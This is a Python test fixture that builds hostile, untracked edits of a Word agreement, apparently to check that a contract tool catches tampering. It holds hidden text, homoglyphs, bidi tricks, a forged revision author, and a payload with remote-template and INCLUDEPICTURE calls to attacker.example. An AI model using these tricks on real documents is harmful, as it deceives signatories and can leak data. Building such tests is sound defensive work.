"""Hostile edits of a built agreement, made without Track Changes: each case rewrites the
returned package the way an editor (or a script) could, around one sentence of the
Oakview draft."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

SENTENCE = (
    "The Agency shall not assign an officer as an SRO unless the District\u2019s members of the "
    "panel have agreed to the selection, except for temporary leave coverage."
)
HEAD, NOT, TAIL = SENTENCE.partition("not ")
CLAUSE = "qualifications-selection"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NEW = "The SRO may search any student at any time."
DOCUMENT, SETTINGS, RELS = "word/document.xml", "word/settings.xml", "word/_rels/document.xml.rels"
NUMBERING = "word/numbering.xml"
HEADING_NUMBER = (
    '<w:pStyle w:val="Heading1"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="10"/></w:numPr>'
)
HEADING = "Selection and Qualifications of SROs"
PLAIN_RUN = f'<w:r><w:t xml:space="preserve">{SENTENCE}</w:t></w:r>'
PLAIN_PARAGRAPH = f'<w:p><w:pPr><w:pStyle w:val="BodyText"/></w:pPr>{PLAIN_RUN}</w:p>'

Parts = dict[str, str]
Edit = Callable[[Parts], None]


def _run(text: str, rpr: str = "") -> str:
    props = f"<w:rPr>{rpr}</w:rPr>" if rpr else ""
    return f'<w:r>{props}<w:t xml:space="preserve">{text}</w:t></w:r>'


def _paragraph(inner: str) -> str:
    return f'<w:p><w:pPr><w:pStyle w:val="BodyText"/></w:pPr>{inner}</w:p>'


def _replace(old: str, new: str, part: str = DOCUMENT) -> Edit:
    def edit(parts: Parts) -> None:
        assert old in parts[part], f"{old[:60]} not in {part}"
        parts[part] = parts[part].replace(old, new, 1)

    return edit


def _both(*edits: Edit) -> Edit:
    def edit(parts: Parts) -> None:
        for one in edits:
            one(parts)

    return edit


def _not_as(run: str) -> Edit:
    """The sentence with its "not " written as ``run``."""
    return _replace(PLAIN_RUN, _run(HEAD) + run + _run(TAIL))


def _sentence(new: str) -> Edit:
    return _replace(PLAIN_RUN, _run(new))


def _after(xml: str) -> Edit:
    """``xml`` placed after the sentence's paragraph."""
    return _replace(PLAIN_PARAGRAPH, PLAIN_PARAGRAPH + xml)


def _tracked_insert(text: str, author: str = "Agency") -> Edit:
    ins = (
        f'<w:ins w:id="9001" w:author="{author}" w:date="2026-01-15T10:00:00Z">'
        f"{_run(' ' + text)}</w:ins>"
    )
    return _replace(PLAIN_RUN, PLAIN_RUN + ins)


def _add_part(name: str, text: str) -> Edit:
    def edit(parts: Parts) -> None:
        parts[name] = text

    return edit


def _relationship(rid: str, kind: str, target: str) -> Edit:
    rel = (
        f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}"/></Relationships>'
    )
    return _replace("</Relationships>", rel, RELS)


_MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
_FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> QUOTE "" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    + _run(NOT)
    + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
_BOUND = (
    '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/root/text" '
    'w:storeItemID="{11111111-2222-3333-4444-555555555555}"/></w:sdtPr>'
    f"<w:sdtContent>{PLAIN_PARAGRAPH}</w:sdtContent></w:sdt>"
)
_ALTERNATE = (
    f'<mc:AlternateContent><mc:Choice Requires="w14">{_paragraph(_run(NEW))}</mc:Choice>'
    "<mc:Fallback/></mc:AlternateContent>"
)
_TEXT_BOX = _paragraph(
    '<w:r><w:pict><v:shape style="width:300pt;height:40pt"><v:textbox><w:txbxContent>'
    f"{_paragraph(_run(NEW))}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
)

#: name -> the edit of the returned package
CASES: dict[str, Edit] = {
    "vanish": _not_as(_run(NOT, "<w:vanish/>")),
    "white": _not_as(_run(NOT, '<w:color w:val="FFFFFF"/>')),
    "one-point": _not_as(_run(NOT, '<w:sz w:val="2"/>')),
    "zero-width": _sentence(SENTENCE.replace("not", "no\u200bt", 1)),
    "word-joiner": _sentence(SENTENCE.replace("not", "n\u2060ot", 1)),
    "bidi": _sentence(SENTENCE.replace("not ", "\u202etno ", 1)),
    "homoglyph": _sentence(SENTENCE.replace("not", "n\u043et", 1)),
    "dress-code-homoglyph": _tracked_insert("The SRO shall enf\u043erce the dress c\u043ede."),
    "data-binding": _both(
        _replace(PLAIN_PARAGRAPH, _BOUND),
        _add_part("customXml/item9.xml", f"<root><text>{NEW}</text></root>"),
        _add_part(
            "customXml/itemProps9.xml",
            '<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/'
            '2006/customXml" ds:itemID="{11111111-2222-3333-4444-555555555555}"/>',
        ),
    ),
    "alternate-content": _after(_ALTERNATE),
    "ignorable": _both(
        _replace("<w:document ", '<w:document xmlns:x="urn:example:hostile" '),
        _replace('mc:Ignorable="w14', 'mc:Ignorable="x w14'),
        _not_as(f"<x:keep>{_run(NOT)}</x:keep>"),
    ),
    "alt-chunk": _both(
        _after('<w:altChunk r:id="rIdHostile1"/>'),
        _relationship("rIdHostile1", "aFChunk", "chunk.html"),
        _add_part("word/chunk.html", f"<html><body><p>{NEW}</p></body></html>"),
    ),
    "quote-field": _not_as(_FIELD),
    "update-fields": _both(
        _replace("</w:settings>", '<w:updateFields w:val="true"/></w:settings>', SETTINGS),
        _not_as(_FIELD),
    ),
    "text-box": _after(_TEXT_BOX),
    "start-override": _replace(
        '<w:num w:numId="10"><w:abstractNumId w:val="9"/></w:num>',
        '<w:num w:numId="10"><w:abstractNumId w:val="9"/><w:lvlOverride w:ilvl="0">'
        '<w:startOverride w:val="2"/></w:lvlOverride></w:num>',
        NUMBERING,
    ),
    "heading-unnumbered": lambda parts: _heading_unnumbered(parts),
    "term-hidden-by-style": _both(
        _replace(
            "</w:styles>",
            '<w:style w:type="character" w:customStyle="1" w:styleId="TermNote"><w:name '
            'w:val="Term note"/><w:rPr><w:vanish/></w:rPr></w:style></w:styles>',
            "word/styles.xml",
        ),
        _not_as(_run(NOT, '<w:rStyle w:val="TermNote"/>')),
    ),
    "header-text": _replace("</w:hdr>", _paragraph(_run(NEW)) + "</w:hdr>", "word/header1.xml"),
    "footer-text": _replace("</w:ftr>", _paragraph(_run(NEW)) + "</w:ftr>", "word/footer1.xml"),
    "footnote": _both(
        _replace(PLAIN_RUN, PLAIN_RUN + '<w:r><w:footnoteReference w:id="1"/></w:r>'),
        _add_part(
            "word/footnotes.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><w:footnotes xmlns:w="{W}">'
            '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p>'
            f'</w:footnote><w:footnote w:id="1">{_paragraph(_run(NEW))}</w:footnote>'
            "</w:footnotes>",
        ),
        _relationship("rIdHostileNotes", "footnotes", "footnotes.xml"),
        _replace(
            "</Types>",
            '<Override PartName="/word/footnotes.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/></Types>',
            "[Content_Types].xml",
        ),
    ),
}


def _heading_unnumbered(parts: Parts) -> None:
    """The numbering taken off the heading of the sentence's clause."""
    xml = parts[DOCUMENT]
    at = xml.index(f">{HEADING}</w:t>")
    start = xml.rindex(HEADING_NUMBER, 0, at)
    parts[DOCUMENT] = (
        xml[:start] + '<w:pStyle w:val="Heading1"/>' + xml[start + len(HEADING_NUMBER) :]
    )


def edit_docx(source: Path, target: Path, edit: Edit) -> Path:
    """Copy ``source`` to ``target`` with ``edit`` applied to its XML parts."""
    with zipfile.ZipFile(source) as zin:
        names = zin.namelist()
        data = {name: zin.read(name) for name in names}
    parts: Parts = {n: d.decode("utf-8") for n, d in data.items() if n.endswith((".xml", ".rels"))}
    before = dict(parts)
    edit(parts)
    assert parts != before, "the edit did not apply"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for name in names:
            zout.writestr(name, parts[name].encode("utf-8") if name in parts else data[name])
        for name in parts.keys() - set(names):
            zout.writestr(name, parts[name].encode("utf-8"))
    return target


#: a defined term of the definitions clause formatted hidden
TERM = '<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">\u201cSchool Day\u201d</w:t></w:r>'
HIDDEN_TERM = _replace(
    TERM,
    '<w:r><w:rPr><w:b/><w:vanish/></w:rPr><w:t xml:space="preserve">\u201cSchool Day'
    "\u201d</w:t></w:r>",
)

#: the paragraph mark before the clause's heading deleted (tracked): the heading merges into
#: the previous section
LAST_OF_PREVIOUS = (
    '<w:p><w:pPr><w:pStyle w:val="BodyText"/></w:pPr><w:r><w:t xml:space="preserve">The '
    "Agency shall consult the District before assigning"
)
MERGED = _replace(
    LAST_OF_PREVIOUS,
    '<w:p><w:pPr><w:pStyle w:val="BodyText"/><w:rPr><w:del w:id="9100" w:author="Agency" '
    'w:date="2026-01-15T10:00:00Z"/></w:rPr></w:pPr><w:r><w:t xml:space="preserve">The '
    "Agency shall consult the District before assigning",
)

#: a tracked insertion whose author claims to be the district's
FORGED = _tracked_insert("The SRO may search lockers.", author="District Counsel")

#: what a returned package may carry that no output of mou should
PAYLOAD: Edit = _both(
    _add_part("word/vbaProject.bin", "not really a macro project"),
    _relationship("rIdHostileVba", "vbaProject", "vbaProject.bin"),
    _add_part(
        "word/_rels/settings.xml.rels",
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
    ),
    _replace("</w:settings>", '<w:attachedTemplate r:id="rIdT"/></w:settings>', SETTINGS),
    _replace(
        "</Relationships>",
        '<Relationship Id="rIdHostileLink" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/oleObject" Target="file://server/share/x.xlsx" '
        'TargetMode="External"/></Relationships>',
        RELS,
    ),
    _not_as(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' INCLUDEPICTURE "https://attacker.example/p.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + _run(NOT)
    ),
    _add_part("customXml/item7.xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'),
    _add_part("word/activeX/activeX1.xml", "<ax/>"),
)
